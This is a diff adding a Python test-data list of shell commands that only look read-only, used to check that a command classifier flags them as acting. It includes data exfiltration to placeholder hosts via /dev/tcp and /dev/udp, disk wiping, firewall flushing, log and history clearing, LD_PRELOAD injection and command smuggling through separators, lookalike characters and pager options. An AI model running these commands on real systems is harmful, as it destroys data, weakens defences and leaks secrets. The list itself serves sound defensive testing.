@@ -1,0 +1,888 @@
+"""Commands that do something, or could, dressed up as commands that only read; test_typed.py holds that none is called a read.
+
+`\\n`, `\\r`, `\\x0b` and the like stand for the characters, two backslashes for one.
+"""
+
+ACTS = r"""
+# Options shortened, glued, joined, and behind others
+sort --outp x f
+sort --output-x=f f
+sort -ro x f
+sort -o x -- f
+sort -t -o x f
+sort -S1M -ox f
+uniq -f1 a b
+uniq -- a b
+# Redirections
+ls > x
+ls >x 2>&1
+ls 1>x
+ls 3>x
+: > x
+: >> x
+true >| x
+>x
+cat < a > b
+cat a 2>/dev/tcp/h/1
+echo x > /dev/tcp/example.org/80
+tee /dev/tcp/example.org/80
+cat /etc/passwd | tee /dev/udp/h/53
+# Names in disguise
+\rm x
+r\m x
+"r"m x
+'rm' x
+r''m x
+$'rm' x
+/usr/bin/rm x
+/usr/bin/../bin/rm x
+/bin//rm x
+~/bin/ls
+./ls
+../ls
+bin/ls
+/usr/bin/git -c alias.x='!rm y' x
+/tmp/../usr/bin/ls
+\git -c core.pager='rm x' -p log
+# What separates commands
+ls$IFS-la>x
+ls	;rm	x
+ls\nrm x
+ls\r\nrm x
+ls\x0brm x
+ls&rm x
+ls|rm x
+ls||rm x
+ls;rm x
+ls&&rm x
+ls|&tee x
+ls;:>x
+ls #\nrm x
+ls \\\n; rm x
+echo `rm x`
+echo "`rm x`"
+echo $(rm x)
+echo ${X:-$(rm x)}
+echo ${PATH:=y}
+echo $((PATH=1))
+echo $((a[$(rm x)]))
+echo {a,$(rm x)}
+cat <<E\n$(rm x)\nE
+cat <<'E'\nx\nE\nrm x
+cat <<<"$(rm x)"
+cat <(rm x)
+ls >(rm x)
+ls\u00a0-la
+ｌs -la
+lѕ -la
+ls\u200b -la
+ls\u2028rm x
+# find, rg, fd, tar: options that write or run
+find . -fprintf x %p
+find . -fprint x
+find . -fls x
+find . -fprint0 x
+find . -delete
+find . -ok rm {} ;
+find . -execdir rm {} ;
+find . -exec rm {} \\;
+find . -exec ls {} ; -delete
+find . -name x -o -exec rm {} +
+find . -files0-from f -delete
+find . -exec sh -c 'rm "$1"' _ {} \\;
+find . -exec sh -c "rm {}" \\;
+find . -exec env rm {} +
+find . -exec sort -o {} {} \\;
+rg --pre ./p x
+rg --pre=./p x
+rg --pre-glob '*' --pre p x
+rg --hostname-bin=./p x
+rg -z x
+rg --search-z x
+fd -x rm
+fd --exec rm
+fd --exec=rm
+fd -HX rm
+fd . -X rm
+tar --to-command=./p -xf a
+tar --to-comm ./p -xf a
+tar -tf a --to-command=./p
+tar -tvf a --checkpoint-action=exec=x --checkpoint
+tar tf a -I ./p
+tar --use-compress-program=./p -tf a
+tar tf host:a
+tar -tf a --rsh-command=./x
+tar tzf a --index-file=x
+tar -tf a -g snap
+tar --delete -f a x
+tar -Af a b
+tar -tf a --rmt-command=x
+# Pagers and editors
+less f
+less +!rm f
+less '+!rm x' f
+more f
+view f
+vi -c ':!rm x' f
+vim -es +'!rm x' +q
+man -P ./p ls
+man --pager=./p ls
+man --pag ./p ls
+man -H./p ls
+man -X ls
+man -C ./f ls
+# git
+git -p log
+git --paginate log
+git -c core.pager=./p log
+git -c core.pager=cat -c core.fsmonitor=./x status
+git -c diff.external=./x diff
+git -c diff.x.textconv=./x diff
+git -c core.sshCommand=./x fetch
+git -c alias.status='!rm' status
+git -c core.editor=./x commit
+git -c user.name=x -c core.hooksPath=. commit -m x
+git --exec-path=. status
+git --exec-path . status
+git --git-dir=x log
+git --config-env=core.pager=X log
+git -c core.pager log
+git -c color.ui=never -c x.y=z log
+git -C . -c a.b=c log
+git log --ext-diff
+git log --ext-d
+git log --textc
+git log --output x
+git log --outpu=x
+git diff --output=x
+git show --output=x HEAD
+git format-patch -o /x -1
+git stash show --output=x -p
+git grep -O x
+git grep -Ovim x
+git grep --open-files-in-pager=x y
+git grep -nO x
+git archive --remote=x HEAD
+git archive -o x HEAD
+git ls-remote --upload-pack=./x .
+git fetch --upload-pack=./x .
+git clone --upload-pack=./x . y
+git clone -u ./x . y
+git upload-pack .
+git bisect run ls
+git submodule foreach ls
+git rebase -x ls main
+git config alias.x '!ls'
+git config core.hooksPath .
+git config --file .git/config core.pager x
+git config -f x a.b c
+git config --replace-all a.b c
+git config --unset a.b
+git config --rename-section a b
+git diff --no-index --output=x a b
+git branch -m a b
+git branch -f a b
+git branch -u origin/x
+git branch --edit-description
+git branch --list -d x
+git tag -f x
+git tag -d x
+git tag x
+git remote set-url origin x
+git remote add x y
+git notes add -m x
+git replace a b
+git update-ref -d x
+git symbolic-ref HEAD x
+git reflog expire --all
+git worktree add x
+git var GIT_EDITOR x > y
+git hash-object -w f
+git fsck --lost-found
+git rerere
+git difftool
+git gc
+git help -w log
+git help log
+git log --show-signature
+git log --format=%GG
+git log --pretty=%G?
+git for-each-ref --format='%(signature:key)'
+git cat-file --textconv HEAD:x
+git cat-file --filters HEAD:x
+git blame --textconv x
+git sparse-checkout set x
+# Variables
+GIT_EXTERNAL_DIFF=x git diff
+GIT_PAGER=./x git log
+GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log
+GIT_SSH_COMMAND=x git fetch
+GIT_DIR=x git log
+GIT_CONFIG_GLOBAL=x git log
+GIT_EXEC_PATH=x git log
+PAGER=./x man ls
+EDITOR=x git commit
+BASH_ENV=x bash -c ls
+ENV=x sh -c ls
+PROMPT_COMMAND=x ls
+PATH=. ls
+LD_PRELOAD=x ls
+LD_LIBRARY_PATH=. ls
+DYLD_INSERT_LIBRARIES=x ls
+IFS=x; ls
+PS4='$(rm x)' bash -xc ls
+SHELLOPTS=xtrace ls
+GCONV_PATH=. iconv -f x f
+LESSOPEN='|rm x' cat f
+RIPGREP_CONFIG_PATH=x rg y
+MANPAGER=./x man ls
+PYTHONSTARTUP=x python
+NODE_OPTIONS='-r ./x' node --check f
+TAR_OPTIONS='--to-command=x' tar tf a
+HISTFILE=x
+# Programs that run others
+env PATH=. ls
+env -i PATH=. ls
+env LD_PRELOAD=x ls
+env -S 'ls -la'
+env -S'rm x'
+env --split-string='rm x'
+env -vS 'rm x'
+env A=b C=d rm x
+env -u X rm x
+env -C / rm x
+env -- rm x
+env - rm x
+sudo -u x rm y
+sudo -i
+sudo -s ls
+sudo -e f
+sudo -A ls
+sudoedit f
+sudo PATH=. ls
+sudo --preserve-env=PATH ls
+sudo -- rm x
+doas rm x
+nice -n5 rm x
+nice -5 rm x
+ionice -c3 rm x
+timeout -s KILL 5 rm x
+timeout 5s sh -c 'rm x'
+setsid -f rm x
+stdbuf -o0 rm x
+unbuffer rm x
+time -o x ls
+/usr/bin/time -o x ls
+/usr/bin/time -ao x ls
+/usr/bin/time --output=x ls
+taskset 1 rm x
+taskset -p 1 1
+chroot / ls
+unshare ls
+nsenter -t 1 ls
+xargs rm
+xargs -I{} rm {}
+xargs -I % sh -c 'rm %'
+xargs -I% sh -c %
+xargs sh -c
+xargs -n1 sh -c 'rm "$0"'
+xargs -a f sort
+xargs -J % rm %
+xargs --arg-file=f rm
+xargs -P4 -n1 rm
+xargs find
+xargs git log
+xargs env
+xargs -n1 env
+xargs sed -n
+xargs sudo
+xargs bash
+parallel ls ::: a
+parallel -a f ls
+parallel --tmpdir=x ls ::: a
+# Small languages
+awk 'BEGIN{system("rm x")}'
+awk 'BEGIN{"rm x"|getline}'
+awk '{print|"sh"}' f
+awk '{print>"x"}' f
+awk '{printf "x" >> "y"}' f
+awk '{ print $1 > $2 }' f
+awk -f p f
+awk -i inplace '{print}' f
+awk --include=inplace 1 f
+awk -l ext 1 f
+awk -e 'BEGIN{system("x")}' f
+awk --source 'BEGIN{system("x")}'
+awk -v x='y' -f p
+awk -d/x 1 f
+awk -ox 1 f
+awk -p/x 1 f
+gawk --profile=x 1 f
+awk 'BEGIN{printf "x" | "sh"}'
+awk -F '|' '{print $1 | "sh"}' f
+awk 'BEGIN{s="sys" "tem"; @s("rm")}'
+sed 'w x' f
+sed -n '/a/w x' f
+sed 's/a/b/w x' f
+sed 's/a/b/gw x' f
+sed 's/a/rm x/e' f
+sed 's/a/b/ew' f
+sed '1e rm x' f
+sed 'e' f
+sed -n '$!{w x\n}' f
+sed 'y/a/b/;w x' f
+sed 'a\\\nx\nw y' f
+sed -i 's/a/b/' f
+sed -ni 's/a/b/' f
+sed -Ei 's/a/b/' f
+sed --in-place=.bak s/a/b/ f
+sed --in-p s/a/b/ f
+sed -n -f s f
+sed --file=s f
+sed -e p -f s f
+sed -s -i p f
+sed 'r x' f
+sed 'R x' f
+sed 'W x' f
+sed 's_a_b_w x' f
+sed -n 's/\\(a\\)/w x/ep' f
+sed '/x/I,+1w y' f
+# Downloads and interpreters
+curl -K f
+curl -o x u
+curl -so x u
+curl --config f
+curl -T f u
+curl u > x
+curl file:///etc/passwd
+curl -V u
+curl --version u
+wget -i f
+wget -O- u
+wget --version u
+http :8080/x
+python -m http.server
+python3 -m http.server 8000
+python3 -m json.tool a b
+python3 --version -c 'x'
+python3 -V x.py
+python3 -c 'x' --version
+python -
+python < f
+perl -c f
+perl -v -e 'x'
+ruby -c -r./x f
+ruby -rx -c f
+node -c -r ./x f
+node --check --require ./x f
+node -e x -c
+php -l -r 'x' f
+php -d auto_prepend_file=x -l f
+php -r 'x' -l
+# Shells
+bash -n -c 'rm x'
+bash -nc 'rm x'
+bash -c 'rm x'
+bash -lc 'rm x'
+bash --rcfile x -ic ls
+bash --init-file x -c ls
+bash -c "ls; rm x"
+bash -c 'ls > x'
+bash -c "$X"
+bash -c ls\\;rm\\ x
+bash -c 'eval "$1"' _ 'rm x'
+bash -c '$0' rm
+bash -c '"$@"' _ rm x
+bash -c '. ./x'
+bash -s < f
+bash <<< 'rm x'
+bash < f
+sh -c 'sh -c "rm x"'
+sh -ec 'rm x'
+sh -c -- 'rm x'
+sh +c 'rm x'
+sh x.sh
+sh -x x.sh
+bash -O extglob -c 'rm x'
+bash -o errexit -c 'rm x'
+bash -D
+zsh -c 'ls'
+ksh -c ls
+busybox rm x
+busybox sh -c 'rm x'
+# The machine: clock, names, file systems, network, kernel, logs
+column -t f > x
+date -s x
+date --set=x
+date 010203
+date -us x
+date --se x
+date -f f -s x
+hostname NAME
+hostname -F f
+hostname -b x
+hostnamectl set-hostname x
+hostnamectl hostname x
+timedatectl set-time x
+mount /dev/a /b
+mount -a
+mount -o remount,rw /
+mount --bind a b
+umount x
+sysctl -w a=b
+sysctl a=b
+sysctl -p
+sysctl -p x
+sysctl --system
+sysctl -n a=b
+sysctl --load=x
+ip link set eth0 up
+ip l s eth0 up
+ip link add x
+ip a add 1.2.3.4/8 dev x
+ip a flush dev x
+ip addr del x dev y
+ip route del default
+ip r add x
+ip -b f
+ip -batch f
+ip netns exec x rm y
+ip netns add x
+ip -force addr
+ip -all netns exec ls
+ip neigh flush all
+ip link delete x
+ifconfig eth0 down
+ifconfig eth0 1.2.3.4
+route add default x
+arp -d x
+arp -s a b
+iptables -F
+iptables -A INPUT -j DROP
+iptables -t nat -F
+iptables -L -Z
+iptables -nvLZ
+iptables -P INPUT DROP
+ss -K
+ss -tK
+ss --kill
+ss -D x
+ss -tD x
+netstat -tX
+dmesg -C
+dmesg -c
+dmesg --clear
+dmesg --cl
+dmesg -n 1
+dmesg -Tc
+journalctl --vacuum-size=1
+journalctl --vacuum-t=1
+journalctl --rotate
+journalctl --flush
+journalctl --cursor-file=x
+journalctl --rel
+# The shell itself
+history -c
+history -w x
+history -d 1
+history -cw
+history -a
+ulimit -n 10
+ulimit -c 0
+umask 000
+trap 'rm x' EXIT
+trap 'rm x' 0
+exec > f
+exec rm x
+exec 3> f
+printf -v X y
+printf -vX y
+printf '%n' X
+read PATH
+read -r LD_PRELOAD
+read -a X
+read 'a[$(rm x)]'
+mapfile -C 'rm' -c 1 x
+source f
+. f
+eval 'rm x'
+eval rm x
+alias ls='rm x'
+alias ls=rm; ls
+unalias ls
+function ls { rm x; }; ls
+ls() { rm x; }; ls
+export PATH=.
+declare PATH=.
+declare -x A=b
+local x=$(rm x)
+set -- rm x
+set -o history
+set +e
+shopt -s expand_aliases
+enable -f ./x.so ls
+hash -p ./x ls
+hash -d ls
+builtin eval 'rm x'
+builtin source f
+command eval 'rm x'
+command -v ls; rm x
+command -p rm x
+coproc rm x
+! rm x
+if true; then rm x; fi
+while true; do rm x; done
+for f in *; do rm "$f"; done
+for PATH in .; do ls; done
+case x in x) rm x;; esac
+{ rm x; }
+(rm x)
+[[ -n $(rm x) ]]
+[[ -v a[$(rm x)] ]]
+test -v 'a[$(rm x)]'
+[ -v x ]
+[ "$(rm x)" ]
+((x=$(rm x)))
+let x=1
+expr $(rm x)
+wait -p PATH
+jobs -x rm x
+fc -s
+disown
+logout
+help -x > y
+# Programs with sub-commands
+tmux ls -F '#(rm x)'
+tmux display -p '#(rm x)'
+tmux list-sessions -f '#{?#(rm x),1,}'
+tmux run 'rm x'
+tmux if true 'run rm'
+tmux source f
+tmux -c 'rm x'
+tmux -f x ls
+tmux ls \\; kill-server
+tmux capture-pane
+tmux show \\; run rm
+screen -X exec rm x
+screen -dm rm x
+npm run x
+npm version patch
+npm ls --node-options='-r x'
+npm config set a b
+npm x y
+npm exec y
+npm pack --dry-run
+npm t
+npm --prefix x run y
+npm ls --json > x
+pip config set a b
+pip list -o
+pip --python ./x list
+pip cache purge
+pip download x
+yarn list
+pnpm ls
+cargo metadata
+go env -w A=b
+go vet
+docker ps -a > x
+docker -H ssh://x ps
+docker --context x ps
+docker run x
+docker compose -f x up
+docker compose exec a b
+docker logs -f x > y
+docker exec x ls
+docker cp a:b c
+docker image prune
+docker context use x
+docker inspect x | sh
+kubectl config use-context x
+kubectl config set a b
+kubectl exec x ls
+kubectl proxy
+kubectl get -f http://x
+terraform fmt
+terraform fmt -check=false
+terraform -chdir=x fmt -check
+terraform console
+terraform output
+aws configure set a b
+systemctl edit x
+systemctl status -H x y
+systemctl --root=/x enable y
+systemctl set-environment A=b
+systemctl import-environment
+systemctl daemon-reexec
+systemctl set-property x a=b
+loginctl terminate-user x
+launchctl load x
+launchctl setenv a b
+crontab -r
+crontab -e
+crontab f
+crontab -l -r
+crontab -u x -r
+crontab -
+at now
+apt list --installed -o Dir::Bin::x=./y
+apt-get -o APT::Update::Pre-Invoke::=x update
+apt-cache -c x search y
+dpkg -i x
+dpkg --force-all -i x
+dpkg -l --root=x > y
+dpkg --pre-invoke=x -l
+rpm -qp http://x/y.rpm
+rpm -e x
+rpm -q --eval '%(rm x)'
+rpm --eval '%(rm x)'
+rpm -E '%(rm x)'
+rpm -q --define 'a %(rm x)' y
+rpm -q --pipe 'rm x' y
+rpm -qa --pipe=sh
+brew list --debug x && brew cleanup
+brew config > x
+pacman -Qdt -R x
+pacman -R x
+pacman -Q --dbpath x -S y
+# Keys and databases
+openssl x509 -in a -out b
+openssl x509 -noout -out b
+openssl rand -out x 16
+openssl rand -engine ./x 16
+openssl dgst -sha256 -out x f
+openssl enc -aes-256-cbc -in a -out b
+openssl req -newkey rsa:2048 -keyout a
+openssl list -provider-path . -provider x
+openssl version -engine x
+openssl s_client -connect h:1
+ssh-keygen -f x
+ssh-keygen -R h
+ssh-keygen -l -f x -R h
+ssh-keygen -lD ./x.so
+ssh-add x
+ssh-add -D
+ssh-add -l -D
+ssh-add -s ./x.so
+ssh -G h
+ssh -o ProxyCommand='rm x' h
+gpg -d x > y
+gpg --recv-keys x
+gpg -o x -d y
+gpg --list-keys --keyserver x
+sqlite3 -readonly db '.shell rm x'
+sqlite3 -readonly db "select writefile('x','y')"
+sqlite3 -readonly db 'select 1' '.system rm x'
+sqlite3 -readonly db "select load_extension('./x')"
+sqlite3 -readonly -cmd '.shell rm' db 'select 1'
+sqlite3 -readonly -init f db 'select 1'
+sqlite3 -readonly db '.output x' 'select 1'
+sqlite3 -readonly db '.once x'
+sqlite3 -readonly db '.read f'
+sqlite3 -readonly db < f
+sqlite3 -readonly db 'select 1;\n.shell rm x'
+sqlite3 -readonly db "select edit('x','rm')"
+sqlite3 -readonly db 'select 1; vacuum into "x"'
+sqlite3 -readonly db "attach 'x' as y"
+sqlite3 -readonly db 'pragma wal_checkpoint'
+sqlite3 -readonly db '.log x'
+sqlite3 -readonly db '.backup x'
+sqlite3 -readonly db '.dump' > x
+sqlite3 -readonly db '.tables | rm x'
+sqlite3 -readonly db '.import |rm t'
+sqlite3 db 'select 1'
+psql -c 'select 1'
+# Files and formats
+jq -n 'input_filename' > x
+jq -f x --output y
+yq -i . f
+yq -yi . f
+yq --inplace . f
+yq -s .a f
+yq --split-exp .a f
+yq eval -i . f
+yq 'system("rm")' --security-enable-system-operator f
+xmllint --output x f
+xmllint http://x
+xmllint --shell f
+xmllint -o x f
+identify '|rm x'
+identify http://x/y.png
+identify msl:x
+identify -write x y
+identify @f
+ffprobe http://x
+ffprobe -i http://x
+ffprobe -report f
+ffprobe concat:a
+ffprobe -f lavfi movie=x
+exiftool -FileName=x f
+exiftool -j=x f
+exiftool -overwrite_original -Make=x f
+exiftool -if 'system("rm")' f
+exiftool -p '${x;system("rm")}' f
+exiftool -config x f
+exiftool -o x f
+exiftool -tagsfromfile a b
+exiftool -w txt f
+pdftotext a b
+pdftotext - a
+pdfinfo -js a > b
+convert a b
+convert msl:x y
+file -C -m x
+file -z x
+xattr -w a b f
+xattr -d a f
+xattr -c f
+tree -o x
+tree -R -H . -L 1
+tree --output=x
+eza --output x
+bat --pager='rm x' f
+bat cache --clear
+ag --pager 'rm x' y
+ag -z x
+shellcheck --rcfile x f
+yamllint -c x f
+cloc --out=x .
+cloc --report-file x .
+cloc --ou x .
+cloc --extract-with='rm x' .
+diff --to-file=x a > y
+diff -l a b
+diff --pagin a b
+sdiff -o x a b
+sdiff --diff-program=./x a b
+diff3 --diff-program=./x a b c
+diff3 --diff-pro ./x a b c
+diffstat -o x f
+zip -l x
+unzip -l x -d y
+unzip x
+unzip -p x | sh
+zipinfo -O x
+7z x a
+7z l a -o/x
+# Files made and changed
+gzip f
+gzip -d f
+gzip -k f
+gzip -cf f > x
+gzip -lf f -d
+xz -l f -d
+bzip2 -t f -z
+zstd -l f --rm
+zstd -c f -o x
+zcat f > x
+split f
+csplit f 1
+install a b
+cp a b
+dd of=x
+dd if=a of=/dev/sda
+dd if=a conv=notrunc of=x
+truncate -s0 x
+fallocate -l 1 x
+ln -s a b
+mkfifo x
+mknod x p
+mktemp
+mktemp -u --suf x -d
+touch x
+touch -r a b
+patch < x
+patch --dry-run -o x
+rsync a b
+rsync -e ./x a b
+rsync --rsh=./x a h:b
+scp a b
+# Processes and devices
+logger x
+wall x
+write u
+mail u
+fuser -k 80/tcp
+fuser -vk .
+fuser -ki .
+kill 1
+kill -0 1 -9 2
+pkill x
+killall x
+pgrep --signal KILL x | xargs kill
+lsof -Di
+lsof +m x
+top -b -n 1 > x
+nvidia-smi -r
+nvidia-smi -pm 1
+nvidia-smi -f x
+nvidia-smi -q -f x
+sensors -s
+smartctl -t short x
+smartctl -s on x
+smartctl -a -t long x
+fdisk x
+fdisk -l x > y
+blkid -g
+swapon x
+swapon -a
+losetup -a
+modprobe x
+modinfo x | sh
+lspci -Q
+lastlog -C -u x
+last -f x > y
+sar -o x 1
+pidstat -e rm x
+iostat 1 1 > x
+# Desktops, linters and the rest
+code --install-extension x
+code --list-extensions --extensions-dir x
+code .
+defaults write a b c
+defaults delete a
+diskutil eraseDisk x y z
+pmset sleepnow
+pmset -a sleep 0
+scutil --set HostName x
+launchctl bootout x
+open x
+osascript -e x
+xdg-open x
+say x
+pbcopy < x
+brew services start x
+gofmt -w .
+gofmt -lw .
+gofmt -l -cpuprofile=x .
+clang-format -i f
+clang-format --style=file -i f
+ruff check --fix
+ruff format --check --fix
+black .
+tput -x reset > y
+infocmp -I > x
+locale > x
+getent hosts example.org
+getent ahosts x
+nslookup x
+svn up
+svn status -u
+svn st --config-option x
+wg set x
+ufw disable
+nft flush ruleset
+nft -f x
+nmcli device disconnect x
+nmcli radio wifi off
+virsh destroy x
+vagrant status
+just
+just build
+just -l --set a b c --evaluate
+make -n
+make --version -f x
+make -f - < x
+cmake -P x
+tsc --noEmit
+"""
